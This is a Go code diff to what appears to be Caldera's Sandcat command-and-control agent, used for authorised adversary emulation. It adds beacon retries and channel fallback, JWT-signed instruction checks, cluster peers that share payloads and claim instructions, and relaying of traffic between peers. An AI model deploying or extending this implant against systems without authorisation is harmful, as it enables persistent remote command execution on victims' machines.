@@ -12,8 +12,10 @@ import (
 	"path/filepath"
 	"reflect"
 	"runtime"
+	"sync"
 	"time"
 
+	"github.com/mitre/gocat/cluster"
 	"github.com/mitre/gocat/contact"
 	"github.com/mitre/gocat/execute"
 	"github.com/mitre/gocat/output"
@@ -32,6 +34,7 @@ type AgentInterface interface {
 	Display()
 	DownloadPayloads(payloads []interface{}) []string
 	FetchPayloadBytes(payload string) []byte
+	ForwardToPeer(destination string, data []byte) ([]byte, error)
 }
 
 // Implements AgentInterface
@@ -56,8 +59,32 @@ type Agent struct {
 	beaconContact contact.Contact
 	heartbeatContact contact.Contact
 
+	// Tracked comms channels (used by AgentCommsChannel-based selection/fallback)
+	agentComms AgentCommsChannel
+	validatedCommsChannels map[string]AgentCommsChannel
+	successfulCommsChannels []AgentCommsChannel
+	successFulCommsChannelIndex int
+	tryingSwitchedContact bool
+	retryPolicy RetryPolicy
+	sniffTimeout time.Duration
+	sniffOrder []string
+
 	// peer-to-peer info
 	enableP2pReceivers bool
+	localP2pReceivers map[string]P2pReceiver
+
+	// JWT instruction verification
+	jwtPublicKey interface{}
+	jwtRequired bool
+	jwtKeySource string
+
+	// Cluster coordination
+	clusterBackend cluster.Backend
+	clusterTopic string
+	clusterMu sync.Mutex
+	peerPayloadCache map[string][]byte
+	claimedInstructions map[string]bool
+	clusterAdoptions chan cluster.CommsChannelEvent
 }
 
 // Set up agent variables.
@@ -91,6 +118,13 @@ func (a *Agent) Initialize(server string, group string, c2Config map[string]stri
 	a.exe_name = filepath.Base(os.Args[0])
 	a.enableP2pReceivers = enableP2pReceivers
 	a.initialDelay = float64(initialDelay)
+	a.validatedCommsChannels = make(map[string]AgentCommsChannel)
+	a.retryPolicy = retryPolicyFromConfig(c2Config)
+	a.sniffTimeout, a.sniffOrder = sniffOptionsFromConfig(c2Config)
+
+	if err := a.setUpJWTTrust(c2Config); err != nil {
+		return err
+	}
 
 	// Paw will get initialized after successful beacon.
 
@@ -127,21 +161,36 @@ func (a *Agent) GetTrimmedProfile() map[string]interface{} {
 	}
 }
 
-// Pings C2 for instructions and returns them.
+// Pings C2 for instructions and returns them. A dead beacon no longer gives
+// up after a single attempt: it retries per the agent's RetryPolicy, falling
+// back through previously successful channels and finally HTTP, before
+// reporting DEAD.
 func (a *Agent) Beacon() map[string]interface{} {
+	a.applyPendingClusterAdoptions()
 	var beacon map[string]interface{}
 	profile := a.GetFullProfile()
-	response := a.beaconContact.GetBeaconBytes(profile)
-	if response != nil {
-		beacon = processBeacon(response)
-	} else {
-		output.VerbosePrint("[-] beacon: DEAD")
+	var response []byte
+	err := a.retryUntilSuccess("beacon", a.retryPolicy, func() error {
+		response = a.beaconContact.GetBeaconBytes(profile)
+		if response == nil {
+			if fallbackErr := a.switchToPreviousSuccessfulCommsChannel(); fallbackErr != nil {
+				a.SetDefaultCommunicationChannel(a.agentComms.GetConfig())
+			}
+			return errors.New("no response from beacon contact")
+		}
+		return nil
+	})
+	if err != nil {
+		output.VerbosePrint(fmt.Sprintf("[-] beacon: DEAD (%s)", err.Error()))
+		return beacon
 	}
-	return beacon
+	return a.processBeacon(response)
 }
 
-// Converts the given data into a beacon with instructions.
-func processBeacon(data []byte) map[string]interface{} {
+// Converts the given data into a beacon with instructions. Instructions
+// carrying an invalid or (when jwtRequired is set) missing "jwt" field are
+// dropped before they ever reach RunInstruction.
+func (a *Agent) processBeacon(data []byte) map[string]interface{} {
 	var beacon map[string]interface{}
 	if err := json.Unmarshal(data, &beacon); err != nil {
 		output.VerbosePrint(fmt.Sprintf("[-] Malformed beacon received: %s", err.Error()))
@@ -153,7 +202,7 @@ func processBeacon(data []byte) map[string]interface{} {
 			output.VerbosePrint("[+] beacon: ALIVE")
 			beacon["sleep"] = int(beacon["sleep"].(float64))
 			beacon["watchdog"] = int(beacon["watchdog"].(float64))
-			beacon["instructions"] = commands
+			beacon["instructions"] = a.filterSignedInstructions(commands)
 		}
 	}
 	return beacon
@@ -168,8 +217,15 @@ func (a *Agent) Terminate() {
 	output.VerbosePrint("[*] Terminating Sandcat Agent... goodbye.")
 }
 
-// Runs a single instruction and send results.
+// Runs a single instruction and send results. Skips it if a cluster sibling
+// already claimed the same instruction ID, so siblings sharing a paw don't
+// duplicate execution.
 func (a *Agent) RunInstruction(command map[string]interface{}, payloads []string) {
+	instructionID := fmt.Sprintf("%v", command["id"])
+	if a.claimInstruction(instructionID) {
+		output.VerbosePrint(fmt.Sprintf("[*] Skipping instruction %s: already claimed by a cluster peer.", instructionID))
+		return
+	}
 	timeout := int(command["timeout"].(float64))
 	result := make(map[string]interface{})
 	commandOutput, status, pid := execute.RunCommand(command["command"].(string), payloads, command["executor"].(string), timeout)
@@ -181,32 +237,26 @@ func (a *Agent) RunInstruction(command map[string]interface{}, payloads []string
 }
 
 // Sets the C2 communication channels for the agent according to the specified C2 configuration map.
-// Will default to HTTP if requested C2 is not available or its requirements aren't met. If defaulting
-// to HTTP when it is not available,or if no communication channels are available at all, an error will be returned.
+// Goes through ValidateAndSetCommsChannel so the configured RetryPolicy and, when c2Name is the
+// sniffing sentinel, protocol auto-selection both apply to this initial connection attempt, not just
+// to later Beacon() calls. Will default to HTTP if requested C2 is not available or its requirements
+// aren't met. If defaulting to HTTP when it is not available, or if no communication channels are
+// available at all, an error will be returned.
 func (a *Agent) SetCommunicationChannels(c2Config map[string]string) error {
-	if len(contact.CommunicationChannels) > 0 {
-		if c2Name, ok := c2Config["c2Name"]; ok {
-			if requestedComs, ok := contact.CommunicationChannels[c2Name]; ok {
-				if requestedComs.C2RequirementsMet(a.GetFullProfile(), c2Config) {
-					a.beaconContact = requestedComs
-					a.heartbeatContact = requestedComs
-					output.VerbosePrint("[*] Set communication channels for sandcat agent.")
-					return nil
-				} else {
-					output.VerbosePrint("[-] C2 requirements not met! Attempting to default to HTTP.")
-					return a.SetDefaultCommunicationChannel(c2Config)
-				}
-			} else {
-				output.VerbosePrint("[-] Requested C2 channel not found. Attempting to default to HTTP.")
-				return a.SetDefaultCommunicationChannel(c2Config)
-			}
-		} else {
-			output.VerbosePrint("[-] Invalid C2 Configuration. c2Name not specified. Attempting to default to HTTP.")
-			return a.SetDefaultCommunicationChannel(c2Config)
-		}
-	} else {
+	if len(contact.CommunicationChannels) == 0 {
 		return errors.New("No possible communication channels found.")
 	}
+	c2Name, ok := c2Config["c2Name"]
+	if !ok {
+		output.VerbosePrint("[-] Invalid C2 Configuration. c2Name not specified. Attempting to default to HTTP.")
+		return a.SetDefaultCommunicationChannel(c2Config)
+	}
+	if err := a.ValidateAndSetCommsChannel(a.server, c2Name, c2Config["c2Key"]); err != nil {
+		output.VerbosePrint(fmt.Sprintf("[-] Requested C2 channel %s not available (%s). Attempting to default to HTTP.", c2Name, err.Error()))
+		return a.SetDefaultCommunicationChannel(c2Config)
+	}
+	output.VerbosePrint("[*] Set communication channels for sandcat agent.")
+	return nil
 }
 
 // Sets backup communication channels in case the requested one isn't available.
@@ -215,9 +265,10 @@ func (a *Agent) SetCommunicationChannels(c2Config map[string]string) error {
 func (a *Agent) SetDefaultCommunicationChannel(c2Config map[string]string) error {
 	// Default C2 channel is HTTP
 	if coms, ok := contact.CommunicationChannels["HTTP"]; ok {
-		if coms.C2RequirementsMet(a.GetFullProfile(), c2Config) {
+		if valid, modifications := coms.C2RequirementsMet(a.GetFullProfile(), c2Config); valid {
 			a.beaconContact = coms
 			a.heartbeatContact = coms
+			a.modifyAgentConfiguration(modifications)
 			output.VerbosePrint("[*] Defaulted to HTTP as communication channels for sandcat agent.")
 			return nil
 		} else {
@@ -237,6 +288,7 @@ func (a *Agent) Display() {
 	output.VerbosePrint(fmt.Sprintf("allow p2p receivers=%v", a.enableP2pReceivers))
 	output.VerbosePrint(fmt.Sprintf("beacon channel=%s", a.beaconContact.GetName()))
 	output.VerbosePrint(fmt.Sprintf("heartbeat channel=%s", a.heartbeatContact.GetName()))
+	output.VerbosePrint(fmt.Sprintf("jwt trust=%s", a.jwtTrustState()))
 }
 
 // Will download each individual payload listed, write them to disk,
@@ -249,13 +301,21 @@ func (a *Agent) DownloadPayloads(payloads []interface{}) []string {
 		location := filepath.Join(payload)
 		obtainedPayload := false
 		if fileExists(location) == false {
-			output.VerbosePrint(fmt.Sprintf("[*] Fetching new payload bytes: %s", payload))
-			payloadBytes := a.beaconContact.GetPayloadBytes(a.GetTrimmedProfile(), payload)
+			payloadBytes, fromPeer := a.peerCachedPayload(payload)
+			if fromPeer {
+				output.VerbosePrint(fmt.Sprintf("[*] Using payload bytes a cluster peer already fetched: %s", payload))
+			} else {
+				output.VerbosePrint(fmt.Sprintf("[*] Fetching new payload bytes: %s", payload))
+				payloadBytes = a.beaconContact.GetPayloadBytes(a.GetTrimmedProfile(), payload)
+			}
 			if len(payloadBytes) > 0 {
 				if err := writePayloadBytes(location, payloadBytes); err != nil {
 					output.VerbosePrint(fmt.Sprintf("[-] Error when writing payload bytes: %s", err.Error()))
 				} else {
 					obtainedPayload = true
+					if !fromPeer {
+						a.publishClusterEvent(cluster.Event{Type: cluster.EventPayloadCached, Payload: &cluster.PayloadEvent{Name: payload, Data: payloadBytes}})
+					}
 				}
 			}
 		} else {
@@ -273,6 +333,18 @@ func (a *Agent) FetchPayloadBytes(payload string) []byte {
 	return a.beaconContact.GetPayloadBytes(a.GetTrimmedProfile(), payload)
 }
 
+// ForwardToPeer relays raw P2P payload bytes to another agent through the
+// current C2 channel, for a local P2P receiver whose own egress can't reach
+// the destination directly. Returns an error if the current contact doesn't
+// support peer forwarding.
+func (a *Agent) ForwardToPeer(destination string, data []byte) ([]byte, error) {
+	forwarder, ok := a.beaconContact.(contact.PeerForwarder)
+	if !ok {
+		return nil, errors.New(fmt.Sprintf("Current C2 contact %s does not support peer forwarding.", a.beaconContact.GetName()))
+	}
+	return forwarder.ForwardToPeer(destination, data)
+}
+
 func (a *Agent) InitialDelay() {
 	a.Sleep(a.initialDelay)
 }